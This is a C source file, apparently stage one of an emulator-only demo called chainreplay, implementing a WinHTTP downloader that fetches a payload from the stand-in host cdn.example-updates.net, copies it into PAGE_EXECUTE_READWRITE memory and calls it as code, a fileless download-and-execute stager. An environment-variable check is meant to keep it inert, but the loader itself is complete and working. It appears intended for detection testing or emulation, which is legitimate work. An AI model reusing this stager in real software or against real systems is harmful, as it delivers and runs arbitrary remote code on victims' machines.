/*
 * downloader.c - chainreplay demo stage 1 (benign, emulator-only).
 *
 * A WinHTTP "downloader" that fetches https://cdn.example-updates.net/payload/sc.bin
 * into memory, copies it into a fresh PAGE_EXECUTE_READWRITE allocation and
 * calls it as a function. No file carrier: the second stage only ever exists
 * in memory. The host name is a placeholder that chainreplay's responder
 * answers; nothing here is meant to touch a real network.
 *
 * INERT outside the emulator: the very first call is
 * GetEnvironmentVariableW(L"CHAINREPLAY_SANDBOX", ...); unless it returns
 * L"replay-only" the program exits immediately (ExitProcess(1)).
 *
 * Built with -nostdlib; DownloaderEntry is the PE entry point.
 * Exit codes: 0 ok, 1 no marker, 2 WinHTTP setup/send failed, 3 status != 200,
 *             4 empty or oversized body, 5 VirtualAlloc failed.
 */
#include <windows.h>
#include <winhttp.h>

#define MAX_PAYLOAD 0x10000

static unsigned char g_body[MAX_PAYLOAD];

static int marker_present(void)
{
    static const WCHAR want[] = L"replay-only";
    WCHAR buf[32];
    DWORD n = GetEnvironmentVariableW(L"CHAINREPLAY_SANDBOX", buf, 32);
    DWORD i;
    if (n != (sizeof(want) / sizeof(want[0])) - 1)
        return 0;
    for (i = 0; i < n; i++)
        if (buf[i] != want[i])
            return 0;
    return 1;
}

/* Returns the body length, or a negative exit code on failure. */
static int fetch(void)
{
    HINTERNET hSession = NULL, hConnect = NULL, hRequest = NULL;
    DWORD status = 0, len = sizeof(status), avail, got;
    int total = -2;

    hSession = WinHttpOpen(L"Mozilla/5.0 (compatible; chainreplay-demo)",
                           WINHTTP_ACCESS_TYPE_DEFAULT_PROXY,
                           WINHTTP_NO_PROXY_NAME, WINHTTP_NO_PROXY_BYPASS, 0);
    if (!hSession)
        goto out;
    hConnect = WinHttpConnect(hSession, L"cdn.example-updates.net",
                              INTERNET_DEFAULT_HTTPS_PORT, 0);
    if (!hConnect)
        goto out;
    hRequest = WinHttpOpenRequest(hConnect, L"GET", L"/payload/sc.bin", NULL,
                                  WINHTTP_NO_REFERER, WINHTTP_DEFAULT_ACCEPT_TYPES,
                                  WINHTTP_FLAG_SECURE);
    if (!hRequest)
        goto out;
    if (!WinHttpAddRequestHeaders(hRequest, L"X-Client: demo\r\n", (DWORD)-1,
                                  WINHTTP_ADDREQ_FLAG_ADD))
        goto out;
    if (!WinHttpSendRequest(hRequest, WINHTTP_NO_ADDITIONAL_HEADERS, 0,
                            WINHTTP_NO_REQUEST_DATA, 0, 0, 0))
        goto out;
    if (!WinHttpReceiveResponse(hRequest, NULL))
        goto out;
    if (!WinHttpQueryHeaders(hRequest, WINHTTP_QUERY_STATUS_CODE | WINHTTP_QUERY_FLAG_NUMBER,
                             WINHTTP_HEADER_NAME_BY_INDEX, &status, &len,
                             WINHTTP_NO_HEADER_INDEX) || status != 200) {
        total = -3;
        goto out;
    }

    total = 0;
    for (;;) {
        avail = 0;
        if (!WinHttpQueryDataAvailable(hRequest, &avail) || avail == 0)
            break;
        if (avail > (DWORD)(MAX_PAYLOAD - total)) {
            total = -4;
            break;
        }
        got = 0;
        if (!WinHttpReadData(hRequest, g_body + total, avail, &got) || got == 0)
            break;
        total += (int)got;
    }

out:
    if (hRequest)
        WinHttpCloseHandle(hRequest);
    if (hConnect)
        WinHttpCloseHandle(hConnect);
    if (hSession)
        WinHttpCloseHandle(hSession);
    return total;
}

void WINAPI DownloaderEntry(void)
{
    int n, i;
    unsigned char *mem;

    if (!marker_present())
        ExitProcess(1);

    n = fetch();
    if (n < 0)
        ExitProcess((UINT)-n);
    if (n == 0)
        ExitProcess(4);

    mem = VirtualAlloc(NULL, (SIZE_T)n, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!mem)
        ExitProcess(5);
    for (i = 0; i < n; i++)
        mem[i] = g_body[i];

    ((void (*)(void))mem)();

    ExitProcess(0);
}
